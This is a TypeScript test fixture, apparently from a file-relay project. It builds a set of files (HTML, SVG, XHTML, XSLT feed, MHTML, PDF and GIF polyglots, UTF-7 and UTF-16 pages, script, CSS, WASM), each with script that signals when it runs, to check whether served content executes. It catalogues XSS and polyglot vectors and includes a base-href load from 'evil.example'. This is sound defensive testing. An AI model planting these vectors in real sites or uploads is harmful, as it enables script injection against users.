/**
 * Files that act when they are opened as what they are, or as what somebody takes them for. All of them say that they ran in
 * the same ways: in storage, to other pages of the origin, to the page that opened them, and over the network.
 *
 * @module
 */

export interface HostileContent {
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
}

/** Where a script leaves word: a key of storage, the name of a channel, a property of pages, the beginning of a path. */
export const RAN = "warpran";

const script = (name: string): string =>
  [
    `try{localStorage.setItem('${RAN}','${name}')}catch{}`,
    `try{new BroadcastChannel('${RAN}').postMessage('${name}')}catch{}`,
    `try{(opener||parent).${RAN}='${name}'}catch{}`,
    `try{fetch('/${RAN}/${name}')}catch{}`,
  ].join(";");

const text = (name: string, content: string): HostileContent => ({ name, bytes: new TextEncoder().encode(content) });
const html = (name: string, body: string): HostileContent => text(name, `<!doctype html><title>x</title>${body}`);
const tag = (name: string): string => `<script>${script(name)}</script>`;
const SVG = 'xmlns="http://www.w3.org/2000/svg"';

/** UTF-16 with its mark. */
function utf16(name: string, content: string): HostileContent {
  return { name, bytes: Uint8Array.from(Buffer.from(`\ufeff${content}`, "utf16le")) };
}

const stylesheet = (name: string): string =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body>${tag(name)}</body></html></xsl:template></xsl:stylesheet>`;

/** All of them. */
export const HOSTILE_CONTENTS: readonly HostileContent[] = [
  html("page.html", tag("page.html")),
  html("handlers.html", `<body onload="${script("handlers.html")}"><img src=x onerror="${script("handlers.html")}">`),
  html(
    "frames.html",
    `<iframe srcdoc="${tag("frames.html")}"></iframe><iframe src="/" onload="this.contentWindow.${RAN}=1">`,
  ),
  html(
    "remote.html",
    `<script src="/${RAN}/remote.js"></script><script type=module src="/${RAN}/remote.mjs"></script>`,
  ),
  html("based.html", `<base href="https://evil.example/"><script src="x.js"></script>${tag("based.html")}`),
  html(
    "pictures.html",
    `<img src="/${RAN}/a.png"><link rel=stylesheet href="/${RAN}/a.css"><video src="/${RAN}/a.mp4">`,
  ),
  html(
    "ahead.html",
    `<link rel=preload as=script href="/${RAN}/a.js"><link rel=prefetch href="/${RAN}/b"><link rel=icon href="/${RAN}/i">`,
  ),
  html(
    "form.html",
    `<form id=f method=post action="/${RAN}/form"><input autofocus onfocus="f.submit()"></form><script>f.submit()</script>`,
  ),
  html(
    "worker.html",
    `<script>new Worker('data:text/javascript,1');navigator.serviceWorker.register('/${RAN}.js')</script>`,
  ),
  html("links.html", `<a href="javascript:${script("links.html")}" id=a>x</a><script>a.click()</script>`),
  text(
    "page.xhtml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script("page.xhtml")}</script></body></html>`,
  ),
  text("old.xht", `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${script("old.xht")}"/></html>`),
  text("drawing.svg", `<svg ${SVG}><script>${script("drawing.svg")}</script></svg>`),
  text("onload.svg", `<svg ${SVG} onload="${script("onload.svg")}"><rect width="9" height="9"/></svg>`),
  text(
    "foreign.svg",
    `<svg ${SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${tag("foreign.svg")}</body></foreignObject></svg>`,
  ),
  text(
    "animated.svg",
    `<svg ${SVG}><image href="/${RAN}/a.png"/><animate onbegin="${script("animated.svg")}" attributeName="x" dur="1s"/></svg>`,
  ),
  text(
    "feed.xml",
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(stylesheet("feed.xml"))}"?><feed/>`,
  ),
  text("script.xml", `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script("script.xml")}</h:script></x>`),
  text(
    "saved.mhtml",
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${tag("saved.mhtml")}\r\n--x--\r\n`,
  ),
  text(
    "polyglot.pdf",
    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n<html>${tag("polyglot.pdf")}</html>\ntrailer<</Root 1 0 R>>\n%%EOF`,
  ),
  html("picture.png", tag("picture.png")),
  text("picture.gif", `GIF89a/*<html>${tag("picture.gif")}*/=1;${script("picture.gif")}`),
  text("seven.html", `+ADw-script+AD4-${script("seven.html")}+ADw-/script+AD4-`),
  utf16("sixteen.html", `<!doctype html>${tag("sixteen.html")}`),
  text("app.js", script("app.js")),
  text("module.mjs", `export {};${script("module.mjs")}`),
  text("style.css", `@import "/${RAN}/style.css"; body { background: url("/${RAN}/style.png") }`),
  // With a section that says nothing: a relay takes nothing shorter than a seal.
  {
    name: "code.wasm",
    bytes: Uint8Array.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 0, 32, 1, 0x78, ...new Uint8Array(30)]),
  },
  html("no extension", tag("no extension")),
];
